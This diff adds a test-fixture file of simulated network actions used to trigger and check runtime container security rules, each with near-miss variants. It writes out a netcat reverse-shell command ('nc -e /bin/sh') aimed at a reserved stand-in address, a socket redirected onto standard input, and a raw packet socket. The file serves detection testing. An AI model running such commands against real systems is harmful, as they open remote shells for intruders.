@@ -1,0 +1,80 @@
+// Actions on the network. Connections stay within the machine where the place permits that.
+
+import type { Action } from '../action.ts';
+import { AF_INET, AF_PACKET, AF_UNIX, SOCK_DGRAM, SOCK_RAW } from '../numbers.ts';
+import { become, connectTo, pretend, type Step } from '../steps.ts';
+
+/** Of TEST-NET-1, which nobody has. */
+const OUTSIDE = '192.0.2.1';
+const INSIDE = '10.1.2.3';
+
+/** A connection to a port of its own network that nobody listens at: UDP does not mind. */
+const CONNECTION: readonly Step[] = [
+  ['socket', AF_INET, SOCK_DGRAM, 0],
+  ['connect', 'r0', 'in:127.0.0.1:9', 'len'],
+];
+
+export const NETWORK_ACTIONS: readonly Action[] = [
+  {
+    name: 'run-netcat-with-shell',
+    description: 'runs a program called nc that is told to run a shell',
+    where: 'container',
+    rules: ['Netcat Remote Code Execution in Container'],
+    steps: ({ directory, marker }) => [pretend(directory, 'nc', '-e', '/bin/sh', OUTSIDE, '22', marker)],
+    nearMisses: [
+      { what: 'only connecting', steps: ({ directory, marker }) => [pretend(directory, 'nc', OUTSIDE, '22', marker)] },
+      {
+        what: 'outside of containers',
+        where: 'host',
+        steps: ({ directory, marker }) => [pretend(directory, 'nc', '-e', '/bin/sh', OUTSIDE, '22', marker)],
+      },
+    ],
+  },
+  {
+    name: 'open-packet-socket',
+    description: 'makes a packet socket',
+    where: 'container',
+    rules: ['Packet socket created in container'],
+    steps: () => [['socket', AF_PACKET, SOCK_RAW, 0x300]],
+    nearMisses: [
+      { what: 'another socket', steps: () => [['socket', AF_INET, SOCK_DGRAM, 0]] },
+      { what: 'outside of containers', where: 'host', steps: () => [['socket', AF_PACKET, SOCK_RAW, 0x300]] },
+    ],
+  },
+  {
+    name: 'redirect-input-to-connection',
+    description: 'makes a connection its standard input',
+    where: 'container',
+    rules: ['Redirect STDOUT/STDIN to Network Connection in Container'],
+    ownRules: ['Standard streams redirected to a connection'],
+    steps: () => [...CONNECTION, ['dup3', 'r0', 0, 0]],
+    nearMisses: [
+      { what: 'another descriptor', steps: () => [...CONNECTION, ['dup3', 'r0', 9, 0]] },
+      {
+        what: 'a Unix socket',
+        steps: () => [
+          ['socket', AF_UNIX, SOCK_DGRAM, 0],
+          ['dup3', 'r0', 0, 0],
+        ],
+      },
+      {
+        what: 'outside of containers',
+        rules: ['Redirect STDOUT/STDIN to Network Connection in Container'],
+        where: 'host',
+        steps: () => [...CONNECTION, ['dup3', 'r0', 0, 0]],
+      },
+    ],
+  },
+  {
+    name: 'connect-ssh-to-odd-port',
+    description: `connects to ${OUTSIDE} port 443, from a process called ssh`,
+    where: 'any',
+    rules: ['Disallowed SSH Connection Non Standard Port'],
+    steps: ({ directory }) => [become(directory, 'ssh'), ...connectTo(OUTSIDE, 443)],
+    nearMisses: [
+      { what: 'its own port', steps: ({ directory }) => [become(directory, 'ssh'), ...connectTo(OUTSIDE, 22)] },
+      { what: 'another program', steps: ({ directory }) => [become(directory, 'curl'), ...connectTo(OUTSIDE, 443)] },
+      { what: 'to an inner network', steps: ({ directory }) => [become(directory, 'ssh'), ...connectTo(INSIDE, 443)] },
+    ],
+  },
+];
